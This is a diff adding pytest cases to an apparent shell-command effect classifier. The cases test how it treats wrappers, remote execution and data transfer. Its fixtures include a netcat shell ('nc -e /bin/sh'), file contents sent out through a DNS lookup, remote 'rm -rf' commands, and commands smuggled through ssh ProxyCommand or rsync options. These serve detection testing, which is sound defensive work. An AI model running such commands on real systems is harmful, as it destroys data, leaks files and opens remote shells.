@@ -470,6 +470,87 @@ def test_a_tool_that_sends_also_runs() -> None:
         assert parse(text).effects == (execute(program, Verb.SEND), execute(program))
 
 
+@pytest.mark.parametrize(
+    "wrapper",
+    [
+        *(
+            "systemd-run",
+            "strace -f",
+            "taskset -c 0",
+            "taskset 0x1",
+            "chrt -f 10",
+            "setpriv --no-new-privs",
+            "unbuffer",
+        ),
+        *("prlimit --nofile=10", "cpulimit -l 50 --"),
+    ],
+)
+def test_a_wrapper_does_what_it_runs(wrapper: str) -> None:
+    assert parse(f"{wrapper} rm a").effects == (file(Verb.DELETE, "a"),)
+
+
+def test_the_loader_does_what_it_runs() -> None:
+    assert parse("/lib64/ld-linux-x86-64.so.2 /bin/rm a").effects == (file(Verb.DELETE, "a"),)
+    assert is_unknown(parse("/lib64/ld-linux-x86-64.so.2 --preload x /bin/ls"))
+
+
+@pytest.mark.parametrize(
+    ("text", "verbs"),
+    [
+        ("ssh host rm -rf /srv", {Verb.DELETE}),
+        ("ssh -i k -o StrictHostKeyChecking=no bob@host 'cd /srv; rm -rf x'", {Verb.DELETE}),
+        ("ssh host <<'E'\nrm -rf /srv\nE\n", {Verb.DELETE}),
+        ("ssh host -t sudo reboot", {Verb.ADMIN}),
+        ("ssh host 'cat > x' < a", {Verb.SEND}),
+        ("ssh host uptime", set()),
+        ("kubectl exec x -- rm -rf /srv", {Verb.DELETE}),
+        ("kubectl exec x -- sh -c 'rm -rf /srv'", {Verb.DELETE}),
+        ("kubectl exec x -- ls /srv", set()),
+        ("docker exec x sh -c 'rm -rf /srv'", {Verb.DELETE}),
+        ("docker exec -it x bash", set()),
+        ("at now <<< 'rm a'", {Verb.DELETE}),
+        ("nc host 80 < a", {Verb.SEND}),
+        ("telnet host", {Verb.SEND}),
+        ("dig $(cat a).host.example", {Verb.SEND}),
+        ("scp -o BatchMode=yes a host:", {Verb.SEND}),
+        ("rsync -a -e 'ssh -p 22' a host:", {Verb.SEND}),
+        ("rsync -a host:x .", set()),
+        ("rsync -a --delete a/ host:b", {Verb.DELETE, Verb.SEND}),
+        ("aws s3 cp a s3://bucket", {Verb.SEND}),
+        ("aws s3 cp s3://bucket/a .", set()),
+        ("gsutil cp a gs://bucket", {Verb.SEND}),
+        ("rclone copy a there:b", {Verb.SEND}),
+        ('rclone copy a "$there"', {Verb.SEND}),
+    ],
+)
+def test_what_runs_or_goes_elsewhere_is_told_with_its_tool(text: str, verbs: set[Verb]) -> None:
+    program = parse(text)
+    assert program.findings == ()
+    assert {e.verb for e in program.effects if isinstance(e, CommandEffect)} - {Verb.EXECUTE} == verbs
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "ssh -o ProxyCommand='rm b' host ls",
+        'ssh host "$x"',
+        "echo 'rm a' | ssh host bash",
+        "ssh host < a",
+        "scp -S ./x a host:",
+        "rsync -e './x' a host:",
+        "rsync -ave './x' a host:",
+        "rsync -e./x ssh host:",
+        "rsync --rsync-path='rm a; rsync' a host:",
+        "nc -e /bin/sh host 1",
+        "at now < a",
+        'docker exec x sh -c "$x"',
+        "tmux new -d 'rm a'",
+    ],
+)
+def test_what_hides_its_command_from_elsewhere_is_unknown(text: str) -> None:
+    assert is_unknown(parse(text))
+
+
 @pytest.mark.parametrize("text", ["kubectl $x namespace old", "terraform $(cat x)", "aws s3 $x", "docker *"])
 def test_a_tool_whose_subcommand_is_not_literal_is_unknown(text: str) -> None:
     assert is_unknown(parse(text))
